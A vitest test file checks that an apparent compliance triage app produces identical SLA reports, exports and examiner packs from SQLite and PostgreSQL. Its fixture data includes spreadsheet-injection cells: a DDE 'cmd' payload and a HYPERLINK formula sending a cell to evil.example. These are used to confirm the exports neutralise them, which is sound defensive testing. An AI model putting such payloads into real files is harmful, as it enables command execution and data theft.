// Reports on a PostgreSQL trail give what they give on SQLite: the real engine builds the same history in both stores
// with the clock frozen (several days, two rule sets, duplicates, quarantine with a repeat and two resolutions,
// spreadsheet-attack cells, text holding U+0000 and U+FFFF, delivery outcomes written into both outboxes, officers' case
// work through the case desk with one clock, some of it after the period's end; rule governance through the governance
// desk with the same clock: silences, one on a CSV's extra column, one including critical alerts approved by a second
// officer and expired mid-period, each import governed by them, and a rule set drafted, backtested, approved and
// activated), then the SLA figures, the report's CSV, JSON and PDF, and the examiner pack are compared file by file.
import { execFileSync } from 'node:child_process'
import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { defaultSettings } from '../../src-main/core/config/index.js'
import { loadRuleSet, type RuleSet } from '../../src-main/core/classify/index.js'
import type { TriageStore } from '../../src-main/core/ports/triage-store.js'
import type { ReportSession } from '../../src-main/core/ports/trail.js'
import { resolveQuarantine } from '../../src-main/core/quarantine/index.js'
import { buildSlaReport, exportReport, verifyPack, writeExaminerPack, type PackResult } from '../../src-main/core/report/index.js'
import { executeRun, explicitFiles } from '../../src-main/core/run.js'
import { PostgresStore } from '../../src-main/store/postgres/index.js'
import { openPostgresReports } from '../../src-main/store/postgres/reports.js'
import { toPg } from '../../src-main/store/postgres/text.js'
import { PostgresCaseStore } from '../../src-main/store/postgres/cases.js'
import { SqliteCaseStore } from '../../src-main/store/sqlite/cases.js'
import { CaseDesk } from '../../src-main/core/case/desk.js'
import { defaultCasePolicy } from '../../src-main/core/case/policy.js'
import type { CaseStore } from '../../src-main/core/ports/cases.js'
import { SqliteStore } from '../../src-main/store/sqlite/index.js'
import { GovernanceDesk } from '../../src-main/core/governance/desk.js'
import { governedRun } from '../../src-main/core/governance/runtime.js'
import type { GovernanceStore } from '../../src-main/core/ports/governance.js'
import { SqliteGovernanceStore } from '../../src-main/store/sqlite/governance.js'
import { PostgresGovernanceStore } from '../../src-main/store/postgres/governance.js'
import { SqliteTrail } from '../../src-main/store/sqlite/trail.js'
import { ROOT, tempDir } from '../helpers.js'
import { createDatabase, pgUnavailable, sql, type TestDatabase } from './pg.js'

const unavailable = await pgUnavailable()
if (unavailable) console.warn(`test/store/postgres-reports.test.ts skipped: ${unavailable}`)

const HEADER = 'txn_id,customer_id,amount,currency,country,txn_type,risk_score,created_at,branch'
const COUNTRIES = ['GB', 'DE', 'IR', 'US', 'PA', 'FR', 'NG', 'SG']
const TYPES = ['wire', 'card', 'cash', 'sepa', 'crypto']
const cell = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s)

interface Import {
  at: string
  rows: number
  duplicates?: number
  bad?: number
  mail?: boolean
  rules?: 'default' | 'extended'
}

/** Days around the period 2026-11-02 … 2026-11-05: one import before it and one after, so the segment is inside the chain. */
const IMPORTS: Import[] = [
  { at: '2026-11-01T10:00:00.000Z', rows: 30 },
  { at: '2026-11-02T09:00:00.000Z', rows: 120, duplicates: 6, bad: 3, mail: true },
  { at: '2026-11-03T12:00:00.000Z', rows: 80, duplicates: 4, mail: true },
  { at: '2026-11-05T23:30:00.000Z', rows: 60, bad: 2, rules: 'extended' },
  { at: '2026-11-06T00:30:00.000Z', rows: 20, duplicates: 2, bad: 1 }
]
const PERIOD = { from: '2026-11-02T00:00:00.000Z', to: '2026-11-06T00:00:00.000Z' }
const NOW = new Date('2026-12-01T09:00:00.000Z')

function transactions(tag: string, spec: Import): string {
  const at = Date.parse(spec.at)
  const lines = [HEADER]
  for (let i = 1; i <= spec.rows; i++) {
    const delayMin = i % 4 ? (i * 13) % 12 : (i * 7919) % 2880 // every fourth waits up to 48 h: breaches in every severity
    const created = new Date(at - delayMin * 60_000 - (i % 60) * 1000).toISOString()
    const branch = i === 7 ? 'nul \u0000 inside' : i === 8 ? 'escape \uffff0 and \uffff' : i === 9 ? "+cmd|' /C calc'!A0" : i % 3 ? 'London' : 'Zurich, CH'
    const txn = i === 10 ? '=HYPERLINK("http://evil.example/?x="&A1,"click")' : `T${tag}${String(i).padStart(5, '0')}`
    lines.push(
      [
        cell(txn),
        `C${(i * 31) % 997}`,
        ((i * 1237) % 90_000).toFixed(2),
        'USD',
        COUNTRIES[i % 8]!,
        TYPES[i % 5]!,
        String((i * 37) % 101),
        created,
        cell(branch)
      ].join(',')
    )
  }
  for (let i = 1; i <= (spec.duplicates ?? 0); i++) lines.push(lines[i]!)
  for (let i = 1; i <= (spec.bad ?? 0); i++) lines.push(`B${tag}${i},C1,12O${i}.00,USD,GB,wire,10,${spec.at},London`)
  // The same bad bytes in every file: quarantined once, a repeat afterwards.
  lines.push('BREPEAT,C1,not-a-number,USD,GB,card,10,2026-11-02T10:00:00Z,x')
  return `${lines.join('\n')}\n`
}

function mailbox(tag: string, spec: Import): string {
  const at = Date.parse(spec.at)
  const hints = ['critical', 'high', 'medium', 'low', null]
  const mails: unknown[] = []
  for (let i = 1; i <= 12; i++)
    mails.push({
      message_id: `<${tag}.${i}@vendor.example>`,
      vendor: 'alerts@vendor.example',
      subject: i === 3 ? `Sanctions hit \u0000 NUL ${tag}` : i === 4 ? '-2+3 wire to "Acme"' : `Screening alert ${tag}-${i}`,
      body: i === 3 ? 'body \u0000 \uffff0 x' : `Customer C${i}. Line one\r\nline two.`,
      severity_hint: hints[i % 5],
      created_at: new Date(at - ((i * 211) % 2000) * 60_000).toISOString()
    })
  mails.push({ message_id: `<${tag}.bad@vendor.example>`, vendor: null, subject: '', body: 'no subject', severity_hint: null, created_at: spec.at })
  return JSON.stringify(mails, null, 2)
}

/** The files of every import, written once: both stores read the same bytes from the same paths. */
function writeImports(dir: string): string[][] {
  return IMPORTS.map((spec, n) => {
    const tag = `${n + 1}`
    const files = [join(dir, `transactions-${tag}.csv`)]
    writeFileSync(files[0]!, transactions(tag, spec))
    if (spec.mail) {
      files.push(join(dir, `mail-${tag}.json`))
      writeFileSync(files[1]!, mailbox(tag, spec))
    }
    return files
  })
}

const RULES: Record<'default' | 'extended', RuleSet> = {
  default: loadRuleSet(join(ROOT, 'resources/rules/default.yaml')),
  extended: loadRuleSet(join(ROOT, 'resources/rules/example-extended.yaml'))
}

/** One import into a store at its time (only Date is faked, and it stands still), governed by the trail's silences as the app's runs are. */
async function runImport(store: TriageStore, spec: Import, files: string[], governance?: GovernanceStore) {
  vi.setSystemTime(new Date(spec.at))
  const silences = governance
    ? (await governedRun(governance, { settings: defaultSettings(), baseDir: ROOT, source: 'test' }, Date.parse(spec.at))).silences
    : []
  const r = await executeRun(
    { store, settings: defaultSettings(), ruleSet: RULES[spec.rules ?? 'default'], silences, trigger: 'test', parallel: 'never' },
    explicitFiles(files)
  )
  if (r.status !== 'ok') throw new Error(`import at ${spec.at} failed: ${r.errors.join('; ')}`)
  return r
}

/** An officer corrects a bad amount and dismisses another record (the ids are the same in both stores). */
async function resolutions(store: TriageStore, ids: { amount: number; other: number }) {
  vi.setSystemTime(new Date('2026-11-04T15:00:00.000Z'))
  const ctx = { store, settings: defaultSettings(), ruleSet: RULES.default }
  await resolveQuarantine(ctx, { id: ids.amount, by: 'officer', action: 'corrected', fixes: { amount: '1201.00' } })
  await resolveQuarantine(ctx, { id: ids.other, by: 'officer \u0000', action: 'dismissed', reason: 'a NUL \u0000 row' })
}

/**
 * What the dispatcher records, written with the same SQL into both outboxes (the senders are not under test here):
 * deliveries sent, failed and retrying, dead with a fallback, uncertain with an officer's resolution, and notices.
 */
type Exec = (text: string, values: unknown[]) => Promise<void>
async function deliveryOutcomes(exec: Exec, deliveries: Array<{ entry_id: number; destination: string }>) {
  const attempt = (id: number, d: string, n: number, result: string, error: string | null) =>
    exec(
      `INSERT INTO delivery_attempts (entry_id, destination, attempt, started_at, finished_at, result, error, http_status)
      VALUES ($1, $2, $3, '2026-11-05T10:00:00.000Z', '2026-11-05T10:00:01.000Z', $4, $5, $6)`,
      [id, d, n, result, error, result === 'sent' ? 200 : null]
    )
  const set = (id: number, d: string, status: string, attempts: number, error: string | null) =>
    exec('UPDATE deliveries SET status = $1, attempts = $2, last_error = $3, updated_at = $4 WHERE entry_id = $5 AND destination = $6', [
      status,
      attempts,
      error,
      '2026-11-05T10:00:01.000Z',
      id,
      d
    ])
  for (const [i, r] of deliveries.entries()) {
    if (i % 11 === 0 && r.destination.startsWith('slack:')) {
      for (let a = 1; a <= 3; a++) await attempt(r.entry_id, r.destination, a, a === 3 ? 'dead' : 'retry', 'HTTP 500')
      await set(r.entry_id, r.destination, 'dead', 3, 'HTTP 500 \u0000 body')
      await exec(
        `INSERT INTO delivery_fallbacks (entry_id, failed_destination, action, target, reason, created_at)
        VALUES ($1, $2, 'email', 'email:compliance-leads', 'Slack webhook kept failing (HTTP 500)', '2026-11-05T10:30:00.000Z')`,
        [r.entry_id, r.destination]
      )
    } else if (i % 13 === 0) {
      await attempt(r.entry_id, r.destination, 1, 'uncertain', 'timed out after the request was sent')
      await set(r.entry_id, r.destination, 'uncertain', 1, 'timed out')
      await exec(
        `INSERT INTO delivery_notices (created_at, kind, severity, title, detail, destination, entry_ids)
        VALUES ('2026-11-05T11:00:00.000Z', 'uncertain', 'high', 'A delivery may not have arrived', 'Check the peer', $1, $2)`,
        [r.destination, `[${r.entry_id}]`]
      )
      await exec(
        `INSERT INTO delivery_resolutions (entry_id, destination, decision, decided_by, decided_at)
        VALUES ($1, $2, 'confirmed_sent', 'officer', '2026-11-05T12:00:00.000Z')`,
        [r.entry_id, r.destination]
      )
    } else if (i % 7 === 0) {
      await attempt(r.entry_id, r.destination, 1, 'retry', 'connection refused')
      await set(r.entry_id, r.destination, 'failed', 1, 'connection refused')
    } else if (i % 5 === 0) {
      await attempt(r.entry_id, r.destination, 1, 'sent', null)
      await set(r.entry_id, r.destination, 'sent', 1, null)
    }
  }
}

/**
 * Officers' case work, the same on both stores (one clock): acknowledgements, an assignment, a note holding U+FFFF,
 * evidence, four-eyes closes approved and rejected, an escalation with its SAR filed after the period, a sar_filed
 * close, an officer whose name looks like a formula, and an acknowledgement after the period's end.
 */
async function caseWork(cases: CaseStore, alerts: Array<{ id: number; severity: string }>) {
  const clock = { ms: Date.parse('2026-11-05T18:00:00.000Z') }
  const desk = new CaseDesk(cases, defaultCasePolicy(), () => clock.ms)
  const at = (iso: string) => (clock.ms = Date.parse(iso))
  const four = (i: number) => alerts[i]!.severity === 'critical' || alerts[i]!.severity === 'high'
  const id = (i: number) => alerts[i]!.id
  await desk.act({ action: 'ack', ids: [0, 1, 2, 3, 4, 5].map(id) }, 'alice')
  at('2026-11-05T18:30:00.000Z')
  await desk.act({ action: 'assign', ids: [id(0)], to: 'bob' }, 'alice')
  await desk.act({ action: 'note', ids: [id(0)], text: 'escape \uffff0 and \uffff, "quoted", =1+1' }, '=SUM(A1:A9)')
  await desk.act({ action: 'evidence', ids: [id(1)], name: 'statement ü.pdf', bytes: Buffer.from('%PDF-1.7 statement') }, 'alice')
  await desk.act({ action: 'evidence', ids: [id(2)], name: 'same.pdf', bytes: Buffer.from('%PDF-1.7 statement') }, 'bob')
  at('2026-11-05T20:00:00.000Z')
  await desk.act({ action: 'close', ids: [id(2)], disposition: 'false_positive', reason: 'payroll' }, 'alice')
  await desk.act({ action: 'close', ids: [id(3)], disposition: 'escalated', reason: 'structuring' }, 'alice')
  await desk.act({ action: 'close', ids: [id(4)], disposition: 'not_suspicious', reason: 'reviewed' }, 'bob')
  await desk.act({ action: 'close', ids: [id(5)], disposition: 'sar_filed', reason: 'filed', reference: 'FIU-1' }, 'alice')
  at('2026-11-05T22:00:00.000Z')
  if (four(2)) await desk.act({ action: 'approve', ids: [id(2)] }, 'bob')
  if (four(3)) await desk.act({ action: 'approve', ids: [id(3)] }, 'carol')
  if (four(4)) await desk.act({ action: 'reject', ids: [id(4)], reason: 'attach the call note' }, 'alice')
  at('2026-11-07T09:00:00.000Z') // after the period's end: in the pack's chain, not in the figures
  await desk.act({ action: 'sar', ids: [id(3)], reference: 'SAR-2026-7' }, 'alice')
  await desk.act({ action: 'ack', ids: [id(6)] }, 'carol')
}

/**
 * Rule governance, the same on both stores (one clock), each step before the import that follows it: a silence on the
 * CSV's extra column (branch) whose reason holds U+FFFF, one on IR including critical alerts, added by an officer whose
 * name looks like a formula and approved by a second officer, expired mid-period; the extended rule set drafted,
 * backtested (hand-made figures), approved by another officer and activated before the import that uses it.
 */
const GOVERNANCE: Array<{ at: string; step: (desk: GovernanceDesk, ids: Map<string, number>) => Promise<unknown> }> = [
  {
    at: '2026-11-01T12:00:00.000Z',
    step: async (d, ids) =>
      ids.set(
        'zurich',
        (
          await d.addSilence(
            { matches: [{ field: 'extra.branch', value: 'zurich, ch' }], until: '2026-11-04T00:00:00.000Z', reason: 'Zurich re-keying \uffff0 feed' },
            'alice'
          )
        ).id
      )
  },
  {
    at: '2026-11-01T12:05:00.000Z',
    step: async (d, ids) =>
      ids.set(
        'ir',
        (
          await d.addSilence(
            { matches: [{ field: 'country', value: 'IR' }], until: '2026-11-20T00:00:00.000Z', reason: 'IR desk moved, "quoted"', include_critical: true },
            '=cmd|x'
          )
        ).id
      )
  },
  { at: '2026-11-01T12:10:00.000Z', step: (d, ids) => d.approveSilence(ids.get('ir')!, 'bob') },
  { at: '2026-11-02T08:00:00.000Z', step: (d) => d.draft(RULES.extended.source, RULES.extended.path, 'alice') },
  { at: '2026-11-03T13:00:00.000Z', step: (d, ids) => d.expireSilence(ids.get('ir')!, 'desk back', 'bob') },
  {
    at: '2026-11-05T20:00:00.000Z',
    step: (d) =>
      d.recordBacktest(
        RULES.extended,
        null,
        { from: '2026-10-06T20:00:00.000Z', to: '2026-11-05T20:00:00.000Z' },
        {
          alerts: 300,
          changed: 12,
          by_severity_before: { critical: 20, high: 80, medium: 100, low: 100 },
          by_severity_after: { critical: 22, high: 90, medium: 92, low: 96 },
          transitions: { 'low>medium': 4 },
          deliveries_before: { 'email:archive': 100 },
          deliveries_after: { 'email:archive': 96 },
          changed_ids: [1, 2],
          agreement: {}
        },
        'alice'
      )
  },
  { at: '2026-11-05T21:00:00.000Z', step: (d) => d.approve(RULES.extended.version, 'broader coverage, reviewed', 'bob') },
  { at: '2026-11-05T22:00:00.000Z', step: (d) => d.activate(RULES.extended.version, 'November change window', 'carol') }
]

/** Every file of a folder, by relative path. */
function filesOf(dir: string): Map<string, Buffer> {
  const out = new Map<string, Buffer>()
  const walk = (d: string) => {
    for (const n of readdirSync(d)) {
      const p = join(d, n)
      if (statSync(p).isDirectory()) walk(p)
      else out.set(relative(dir, p).split('\\').join('/'), readFileSync(p))
    }
  }
  walk(dir)
  return out
}

const pdfText = (file: string) => execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' })

describe.skipIf(unavailable !== null)('PostgreSQL report queries', () => {
  let db: TestDatabase
  let pgStore: PostgresStore
  let lite: SqliteStore
  let pgReports: ReportSession
  let liteReports: ReportSession
  const dir = tempDir()

  beforeAll(async () => {
    db = await createDatabase()
    const imports = writeImports(dir)
    pgStore = await PostgresStore.open(db.url)
    lite = new SqliteStore(join(dir, 'trail.db'))
    const govLite = new SqliteGovernanceStore(lite.db)
    const govPg = new PostgresGovernanceStore(pgStore.pool, 'test')
    const clock = { ms: 0 }
    const desks = [new GovernanceDesk(govLite, [], () => clock.ms), new GovernanceDesk(govPg, [], () => clock.ms)]
    const silenceIds = [new Map<string, number>(), new Map<string, number>()]
    let step = 0
    vi.useFakeTimers({ toFake: ['Date'] })
    try {
      for (const [n, spec] of IMPORTS.entries()) {
        for (; step < GOVERNANCE.length && GOVERNANCE[step]!.at < spec.at; step++)
          for (const i of [0, 1]) {
            clock.ms = Date.parse(GOVERNANCE[step]!.at)
            await GOVERNANCE[step]!.step(desks[i]!, silenceIds[i]!)
          }
        const a = await runImport(lite, spec, imports[n]!, govLite)
        const b = await runImport(pgStore, spec, imports[n]!, govPg)
        expect(b).toEqual(a)
      }
      expect(step).toBe(GOVERNANCE.length)
      expect(silenceIds[1]).toEqual(silenceIds[0])
      const ids = lite.db
        .prepare("SELECT (SELECT min(id) FROM quarantine WHERE field = 'amount') amount, (SELECT min(id) FROM quarantine WHERE field IS NOT 'amount') other")
        .get() as { amount: number; other: number }
      await resolutions(lite, ids)
      await resolutions(pgStore, ids)
    } finally {
      vi.useRealTimers()
    }
    const deliveries = lite.db.prepare('SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination').all() as Array<{
      entry_id: number
      destination: string
    }>
    lite.db.exec('BEGIN')
    await deliveryOutcomes(async (text, values) => {
      lite.db.prepare(text.replace(/\$\d+/g, '?')).run(...values)
    }, deliveries)
    lite.db.exec('COMMIT')
    await deliveryOutcomes(async (text, values) => {
      await pgStore.pool.query(
        text,
        values.map((v) => (typeof v === 'string' ? toPg(v) : v))
      )
    }, deliveries)
    const inPeriod = lite.db
      .prepare('SELECT id, severity FROM audit_entries WHERE triaged_at >= ? AND triaged_at < ? ORDER BY id LIMIT 7')
      .all(PERIOD.from, PERIOD.to) as Array<{ id: number; severity: string }>
    await caseWork(new SqliteCaseStore(lite.db), inPeriod)
    await caseWork(new PostgresCaseStore(pgStore.pool, 'test'), inPeriod)
    liteReports = await new SqliteTrail(lite).openReports()
    pgReports = await openPostgresReports(pgStore.pool)
  })

  afterAll(async () => {
    await pgReports?.close()
    await liteReports?.close()
    lite?.close()
    await pgStore?.close()
    await db?.drop()
  })

  it('builds the same SLA figures: severities, sources, times to triage, breaches, deliveries, suppression ledger, rule sets, runs', async () => {
    const a = await buildSlaReport(liteReports.queries, PERIOD, { now: NOW })
    const b = await buildSlaReport(pgReports.queries, PERIOD, { now: NOW })
    expect(b).toEqual(a)
    // The history holds what the comparison is meant to cover.
    expect(a.entries.range!.first_id).toBeGreaterThan(1)
    expect(a.breaches.total).toBeGreaterThan(0)
    expect(a.duplicates.total).toBeGreaterThan(0)
    expect(a.quarantine).toMatchObject({ repeats: 3, resolutions: { corrected: 1, dismissed: 1 } })
    expect(a.quarantine.resolutions.shown[1]!.resolved_by).toBe('officer \u0000')
    expect(a.rulesets).toHaveLength(2)
    const statuses = new Set(a.deliveries.lines.flatMap((l) => Object.keys(l.by_status)))
    expect([...statuses]).toEqual(expect.arrayContaining(['sent', 'failed', 'dead', 'uncertain']))
    expect(a.deliveries.fallbacks).toBeGreaterThan(0)
    expect(a.case_work).toMatchObject({ closed: expect.any(Number), four_eyes: { self_approved: 0 } })
    expect(a.case_work.events).toBeGreaterThan(10)
    expect(a.case_work.clocks[0]).toMatchObject({ kind: 'sar_decision', started: 2 })
    // Rule governance: both silences held alerts of the period back (critical ones too, once approved), the rule set's history.
    const silences = a.governance.silences
    expect(silences.silences.map((x) => x.reason)).toEqual(['Zurich re-keying \uffff0 feed', 'IR desk moved, "quoted"'])
    expect(silences.silences.every((x) => x.alerts > 0)).toBe(true)
    expect(silences.silences[1]).toMatchObject({ by: '=cmd|x', approved_by: 'bob', expired_by: 'bob', include_critical: true })
    expect(silences.silences[1]!.by_severity.critical).toBeGreaterThan(0)
    expect(a.deliveries.lines.some((l) => (l.by_status.silenced ?? 0) > 0)).toBe(true)
    expect(a.governance.rule_history).toMatchObject({ in_force_at_start: null, in_force_at_end: RULES.extended.version })
    expect(a.governance.rule_history.events.map((e) => e.type)).toEqual(['rules_drafted', 'rules_backtested', 'rules_approved', 'rules_activated'])
    // The same answers whole, method by method, where the report only samples them.
    for (const [name, call] of Object.entries({
      duplicateCount: (q: ReportSession['queries']) => q.duplicateCount(PERIOD),
      quarantineCount: (q: ReportSession['queries']) => q.quarantineCount(PERIOD),
      duplicates: (q: ReportSession['queries']) => q.duplicates(PERIOD, 1000),
      quarantine: (q: ReportSession['queries']) => q.quarantine(PERIOD, 1000),
      resolutionHead: (q: ReportSession['queries']) => q.resolutionHead(),
      caseHead: (q: ReportSession['queries']) => q.caseHead(),
      caseEventLinks: (q: ReportSession['queries']) => q.caseEventLinks([3, 1, 999_999]),
      caseAlerts: async (q: ReportSession['queries']) => {
        const all = []
        for await (const chunk of q.caseAlerts(PERIOD)) all.push(...chunk)
        return all
      },
      entryLinks: (q: ReportSession['queries']) => q.entryLinks([3, 1, 999_999, 2]),
      entryBriefs: (q: ReportSession['queries']) => q.entryBriefs([40, 5, 999_999]),
      rulesets: (q: ReportSession['queries']) => q.rulesets(['nope', ...a.rulesets.map((r) => r.version).reverse()]),
      deliveryCountsPart: (q: ReportSession['queries']) => q.deliveryCounts(PERIOD, { first_id: 1, last_id: a.entries.range!.last_id }, false),
      governanceEvents: (q: ReportSession['queries']) => q.governanceEvents(),
      governanceHead: (q: ReportSession['queries']) => q.governanceHead(),
      governanceEventLinks: (q: ReportSession['queries']) => q.governanceEventLinks([3, 1, 999_999]),
      silencedCounts: (q: ReportSession['queries']) => q.silencedCounts(PERIOD, a.entries.range!, true),
      silencedCountsPart: (q: ReportSession['queries']) => q.silencedCounts(PERIOD, { first_id: 1, last_id: a.entries.range!.last_id }, false)
    }))
      expect({ name, rows: await call(pgReports.queries) }).toEqual({ name, rows: await call(liteReports.queries) })
  })

  it('exports the same report: CSV and JSON byte for byte, the PDF with the same text', async () => {
    const out = tempDir('triage-pg-report-')
    for (const [ext, opts] of [
      ['csv', { format: 'csv', bom: true }],
      ['json', { format: 'json' }],
      ['pdf', { format: 'pdf', appendix: true }]
    ] as const) {
      const a = await exportReport(liteReports.queries, PERIOD, join(out, `sqlite.${ext}`), { organisation: 'Example Bank plc', now: NOW, ...opts })
      const b = await exportReport(pgReports.queries, PERIOD, join(out, `pg.${ext}`), { organisation: 'Example Bank plc', now: NOW, ...opts })
      if (ext === 'pdf') {
        expect(pdfText(b.path)).toBe(pdfText(a.path))
        expect(pdfText(b.path)).toContain('Example Bank plc')
      } else {
        expect(readFileSync(b.path).equals(readFileSync(a.path)), `${ext} differs`).toBe(true)
        expect(b.sha256).toBe(a.sha256)
      }
      expect(b.rows).toBe(a.rows)
    }
    const csv = readFileSync(join(out, 'pg.csv'), 'utf8')
    expect(csv).toContain('Sanctions hit \u0000 NUL')
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
  })

  it('writes the same examiner pack, which verifies offline and against the live PostgreSQL trail', async () => {
    const out = tempDir('triage-pg-pack-')
    const opts = { organisation: 'Example Bank plc', now: NOW }
    // The clock stands still while both packs are written: then every file is the same, byte for byte.
    vi.useFakeTimers({ toFake: ['Date'] })
    vi.setSystemTime(NOW)
    let a: PackResult, b: PackResult
    try {
      a = await writeExaminerPack(liteReports.queries, PERIOD, join(out, 'sqlite'), opts)
      b = await writeExaminerPack(pgReports.queries, PERIOD, join(out, 'pg'), opts)
    } finally {
      vi.useRealTimers()
    }
    const fa = filesOf(a.dir)
    const fb = filesOf(b.dir)
    expect([...fb.keys()].sort()).toEqual([...fa.keys()].sort())
    const differ = (x: Map<string, Buffer>, y: Map<string, Buffer>) => [...x.keys()].filter((k) => !x.get(k)!.equals(y.get(k)!)).sort()
    expect(differ(fa, fb)).toEqual([])
    expect(b.manifest_sha256).toBe(a.manifest_sha256)
    // With the clock running, report.pdf differs: pdfkit writes the wall-clock time of the export into its info
    // (CreationDate) and file id; manifest.json records its SHA-256. Nothing names the source database.
    const c = await writeExaminerPack(pgReports.queries, PERIOD, join(out, 'pg-clock'), opts)
    expect(differ(fa, filesOf(c.dir))).toEqual(['manifest.json', 'report.pdf'])
    expect(pdfText(join(c.dir, 'report.pdf'))).toBe(pdfText(join(a.dir, 'report.pdf')))
    expect(pdfText(join(b.dir, 'report.pdf'))).toBe(pdfText(join(a.dir, 'report.pdf')))
    const strip = (m: PackResult['manifest']) => ({
      ...m,
      files: m.files.map((f) => (f.path === 'report.pdf' ? { path: f.path, description: f.description } : f))
    })
    expect(strip(b.manifest)).toEqual(strip(a.manifest))
    expect(b.manifest.files.find((f) => f.path === 'audit-entries.csv')!.rows).toBeGreaterThan(200)
    expect(fb.get('quarantine-resolutions.csv')!.toString('utf8')).toContain('officer \u0000')
    // Text PostgreSQL keeps escaped comes out as stored in SQLite: U+0000 and U+FFFF in titles, payloads and raw records.
    const audit = fb.get('audit-entries.csv')!.toString('utf8')
    for (const t of ['Sanctions hit \u0000 NUL', 'escape \uffff0 and \uffff', 'body \\u0000 \uffff0 x']) expect(audit).toContain(t)
    expect(fb.get('quarantine.csv')!.toString('utf8')).toContain(Buffer.from('nul \u0000 inside').toString('hex')) // raw_bytes (bytea)
    expect(fb.get('delivery-attempts.csv')!.toString('utf8')).toContain('uncertain')
    // The case events, the whole chain (after the period too), as stored: U+FFFF kept, a formula-like officer neutralised.
    const events = fb.get('case-events.csv')!.toString('utf8')
    expect(events).toContain('escape \uffff0 and \uffff')
    expect(events).toContain("'=SUM(A1:A9)")
    expect(events).toContain('SAR-2026-7')
    expect(b.manifest.case_events!.head.count).toBe(b.manifest.files.find((f) => f.path === 'case-events.csv')!.rows)
    expect(fb.get('evidence-manifest.csv')!.toString('utf8').split('\r\n')).toHaveLength(3) // header, one file named twice, end
    // The governance events, the whole chain, as stored: U+FFFF kept, a formula-like officer neutralised; the held-back deliveries.
    const governance = fb.get('governance-events.csv')!.toString('utf8')
    expect(governance).toContain('Zurich re-keying \uffff0 feed')
    expect(governance).toContain("'=cmd|x")
    expect(b.manifest.governance_events!.head.count).toBe(b.manifest.files.find((f) => f.path === 'governance-events.csv')!.rows)
    expect(b.manifest.files.find((f) => f.path === 'delivery-silences.csv')!.rows).toBeGreaterThan(10)

    const offline = await verifyPack(b.dir)
    expect(offline.problems).toEqual([])
    expect(offline.ok).toBe(true)
    expect(offline.case_events_checked).toBe(b.manifest.case_events!.head.count)
    expect(offline.governance_events_checked).toBe(b.manifest.governance_events!.head.count)
    const live = await verifyPack(b.dir, { live: pgReports.queries })
    expect(live).toMatchObject({ ok: true, live_checked: true, problems: [] })
    // …and a pack of another trail is not a piece of this one.
    const links = async (ids: number[]) => ids.map((id) => ({ id, prev_hash: '0'.repeat(64), hash: '1'.repeat(64) }))
    const stranger = { entryLinks: links, caseEventLinks: links, governanceEventLinks: links }
    const other = await verifyPack(b.dir, { live: stranger as unknown as ReportSession['queries'] })
    expect(other.ok).toBe(false)
    expect(other.problems.map((p) => p.problem).join('\n')).toMatch(/the pack's case events are not this trail's/)
    expect(other.problems.map((p) => p.problem).join('\n')).toMatch(/the pack's governance events are not this trail's/)
  })

  it('reads one snapshot while an engine keeps writing; a stream stopped early leaves the session usable; close() returns the client', async () => {
    const session = await openPostgresReports(pgStore.pool)
    const before = await session.queries.chainHead()
    vi.useFakeTimers({ toFake: ['Date'] })
    try {
      const more = join(tempDir('triage-pg-more-'), 'late.csv')
      writeFileSync(more, transactions('late', { at: '2026-11-04T08:00:00.000Z', rows: 25 }))
      await runImport(pgStore, { at: '2026-11-04T08:00:00.000Z', rows: 25 }, [more])
    } finally {
      vi.useRealTimers()
    }
    const now = (await sql<{ count: number }>(db.url, 'SELECT count FROM chain_head'))[0]!.count
    expect(now).toBeGreaterThan(before.count)
    expect(await session.queries.chainHead()).toEqual(before)
    const report = await buildSlaReport(session.queries, PERIOD, { now: NOW })
    expect(report.chain_head).toEqual(before)

    let seen = 0
    for await (const _ of session.queries.auditTable({ first_id: 1, last_id: before.last_id }).rows) if (++seen === 3) break
    expect(seen).toBe(3)
    expect((await session.queries.entryLinks([1]))[0]!.id).toBe(1)
    const idle = pgStore.pool.idleCount
    await session.close()
    expect(pgStore.pool.idleCount).toBe(idle + 1)
    await expect(session.queries.chainHead()).rejects.toThrow()
  })
})
